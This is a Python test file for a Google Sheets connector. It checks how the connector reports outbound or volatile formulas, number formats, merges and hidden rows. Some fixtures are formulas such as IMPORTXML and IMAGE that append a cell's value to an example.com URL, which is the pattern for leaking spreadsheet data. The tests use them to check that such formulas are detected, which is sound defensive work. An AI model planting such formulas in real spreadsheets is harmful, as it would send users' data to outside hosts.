"""What stands around values in Google: formulas that call out or move, percents, padded numbers, merges, hidden rows."""

from collections.abc import Callable, Iterator
from datetime import date

import pytest

from connectors.google import GoogleWorkbook
from connectors.google.emulator import Hands
from connectors.google.looks import Looks, read
from connectors.google.seen import MOST_BESIDE_LOOKS, MOST_PLAIN_READS
from sheets_schema.grid import GAVE_WAY, FormulaCell, Padded, Percent
from tests.connectors.excel.building import TABS
from tests.connectors.google.place import Place, google

PLAIN = "sheets.spreadsheets.values.batchGetByDataFilter"
WHOLE = "sheets.spreadsheets.getByDataFilter"


@pytest.fixture
def place() -> Iterator[Place]:
    with google() as made:
        book = made.workbook(TABS)
        book.lay_out(TABS)
        for row, visit in enumerate(("V-01", "V-02", "V-03"), start=2):
            made.hands.put("Attendance", row, 0, visit)
        yield made


@pytest.mark.parametrize(
    ("formula", "is_told"),
    [
        ('=IMPORTXML("https://example.com/?"&A2,"//a")', True),
        ('=HYPERLINK("https://example.com","x")', True),
        ("=TODAY()", True),
        ("=4/2", False),
    ],
)
def test_a_formula_in_an_input_column_is_told_when_it_calls_out_or_moves(
    place: Place, formula: str, *, is_told: bool
) -> None:
    column = place.hands.column_of("Attendance", "Mark")
    place.hands.look("Attendance", 2, column, "NUMBER", "0")  # a person cleared the column's format
    place.hands.put("Attendance", 2, column, formula)
    cell = place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"].rows[1][column]
    assert isinstance(cell, FormulaCell) is is_told
    assert not is_told or str(cell) == formula


def test_a_formula_among_days_has_a_day_as_its_result(place: Place) -> None:
    column = place.hands.column_of("Attendance", "Date")
    place.hands.put("Attendance", 2, column, "=TODAY()")
    cell = place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"].rows[1][column]
    assert isinstance(cell, FormulaCell)


def test_answers_in_the_headings_are_no_formulas_of_people(place: Place) -> None:
    rows = place.workbook(TABS).snapshot([tab.title for tab in TABS]).grids["Attendance"].rows
    assert not [cell for row in rows for cell in row if isinstance(cell, FormulaCell)]


def test_numbers_come_with_their_look(place: Place) -> None:
    column = place.hands.column_of("Attendance", "Mark")
    for row, (value, kind, pattern) in enumerate(
        ((0.2, "PERCENT", "0%"), (123, "NUMBER", "00000"), (5, "NUMBER", "0"))
    ):
        place.hands.put("Attendance", row + 2, column, value)
        place.hands.look("Attendance", row + 2, column, kind, pattern)
    found = [row[column] for row in place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"].rows[1:4]]
    assert [type(cell) for cell in found] == [Percent, Padded, int]
    assert (found[0], str(found[1]), found[2]) == (0.2, "00123", 5)


def test_merged_and_hidden_rows_are_told(place: Place) -> None:
    place.hands.merge("Attendance", 2, 2, down=2)
    place.hands.hide_row("Attendance", 4)
    grid = place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"]
    assert grid.merged == ((2, 3, 3, 3),)
    assert grid.hidden == {4}


def counted(place: Place, book: GoogleWorkbook) -> tuple[str, int, int]:
    """The token, and the reads of values and of everything that it took."""
    before = place.world.calls.copy()
    token = book.token()
    calls = place.world.calls - before
    return token, calls[PLAIN], calls[WHOLE]


def test_both_ways_of_reading_give_one_token_and_values_do_while_they_tell_all(place: Place) -> None:
    for row, value in enumerate((0.5, 7, "=4/2", "TRUE", date(2026, 3, 12)), start=2):
        place.hands.put("Clients", row, 4, value)
    book = place.workbook(TABS)
    token, *first = counted(place, book)
    assert first == [0, 1]
    assert book.snapshot(["Attendance"]).token == token
    for _ in range(3):
        assert counted(place, book) == (token, 1, 0)


def test_everything_is_read_from_time_to_time_since_a_formula_may_change_no_value(place: Place) -> None:
    place.hands.put("Attendance", 2, 4, "Call")
    book = place.workbook(TABS)
    before = book.token()
    place.hands.look("Attendance", 2, 4, "NUMBER", "0")
    place.hands.put("Attendance", 2, 4, '=HYPERLINK("https://example.com","Call")')
    seen = [counted(place, book) for _ in range(MOST_PLAIN_READS + 1)]
    assert [token == before for token, *_ in seen] == [True] * MOST_PLAIN_READS + [False]
    assert seen[-1][1:] == (0, 1)


ODDITIES: dict[str, tuple[Callable[[Hands], None], Callable[[Hands], None], int]] = {
    "a percent": (
        lambda h: h.look("Clients", 2, 4, "PERCENT", "0%"),
        lambda h: h.look("Clients", 2, 4, "NUMBER", "0.0"),
        MOST_BESIDE_LOOKS,
    ),
    "a hidden row": (
        lambda h: h.hide_row("Attendance", 3),
        lambda h: h.tab("Attendance").hidden_rows.clear(),
        MOST_BESIDE_LOOKS,
    ),
    "merged cells": (
        lambda h: h.merge("Attendance", 2, 2, down=2),
        lambda h: h.tab("Attendance").parts.pop("merges"),
        MOST_BESIDE_LOOKS,
    ),
    "a formula": (
        lambda h: h.put("Clients", 2, 4, '=HYPERLINK("https://example.com","0.2")'),
        lambda h: h.put("Clients", 2, 4, "'0.2"),
        0,
    ),
}


@pytest.mark.parametrize("what", ODDITIES)
def test_what_changes_no_value_is_noticed_soon_when_it_is_put_right(place: Place, what: str) -> None:
    make, mend, late = ODDITIES[what]
    place.hands.put("Clients", 2, 4, "'0.2" if what == "a formula" else 0.2)
    before = place.workbook(TABS).token()
    make(place.hands)
    book = place.workbook(TABS)
    odd = book.snapshot(["Clients"]).token
    assert odd != before
    mend(place.hands)
    assert [counted(place, book) for _ in range(late)] == [(odd, 1, 0)] * late
    assert counted(place, book) == (before, 0, 1)
    assert counted(place, book) == (before, 1, 0)


def test_a_formula_below_all_rows_is_told(place: Place) -> None:
    place.hands.put("Attendance", 9, 2, '=IMPORTXML("https://example.com","//a")')
    rows = place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"].rows
    assert rows[8] == (None, None, FormulaCell('=IMPORTXML("https://example.com","//a")', "#NAME?"))


def test_merges_and_hidden_rows_move_with_rows_that_come_and_go(place: Place) -> None:
    place.hands.merge("Attendance", 3, 2, down=2)
    place.hands.hide_row("Attendance", 5)
    place.hands.insert_row("Attendance", 2)
    grid = place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"]
    assert (grid.merged, grid.hidden) == (((4, 3, 5, 3),), {6})
    place.hands.delete_row("Attendance", 4)
    grid = place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"]
    assert (grid.merged, grid.hidden) == ((), {5})


@pytest.mark.parametrize(
    ("cell", "wanted"),
    [
        (
            {"effectiveValue": {"errorValue": {"type": "N_A", "message": "Did not find"}}, "formattedValue": "#N/A"},
            "#N/A",
        ),
        ({"effectiveValue": {"errorValue": {"type": "SOMETHING_NEW"}}}, "#ERROR!"),
        ({"effectiveValue": {"boolValue": False}}, False),
        ({"effectiveValue": {"stringValue": "x"}}, "x"),
    ],
)
def test_a_cell_reads_as_it_does_among_plain_values(cell: dict[str, object], wanted: object) -> None:
    assert read({"data": [{"rowData": [{"values": [{}, cell, {}]}, {}]}]}) == ([["", wanted]], Looks())


def test_a_formula_that_shows_nothing_is_told_all_the_same() -> None:
    cell = {"userEnteredValue": {"formulaValue": '=IMAGE("https://example.com/?"&A2)'}}
    rows, looks = read({"data": [{"rowData": [{"values": [cell]}]}]})
    assert rows == []
    assert looks.odd == {(0, 0): FormulaCell('=IMAGE("https://example.com/?"&A2)', "")}


@pytest.mark.parametrize(("what", "act"), [
    ("typed below", lambda h: h.put("Attendance", 3, h.column_of("Attendance", "Check"), "mine")),
    ("typed over", lambda h: h.put("Attendance", 1, h.column_of("Attendance", "Check"), "Check")),
])  # fmt: skip
def test_a_grey_column_that_no_longer_answers_says_so_in_its_heading(
    place: Place, what: str, act: Callable[[Hands], None]
) -> None:
    book = place.workbook(TABS)
    before = book.snapshot(["Attendance"])
    assert GAVE_WAY not in before.grids["Attendance"].rows[0], what
    column = place.hands.column_of("Attendance", "Check")
    act(place.hands)
    after = book.snapshot(["Attendance"])
    assert after.grids["Attendance"].rows[0][column] == GAVE_WAY
    assert after.token != before.token


def test_headings_that_wait_for_the_tab_of_answers_do_not(place: Place) -> None:
    place.hands.delete_tab("Status")
    assert GAVE_WAY in place.hands.seen("Attendance")[0]
    assert GAVE_WAY not in place.workbook(TABS).snapshot(["Attendance"]).grids["Attendance"].rows[0]
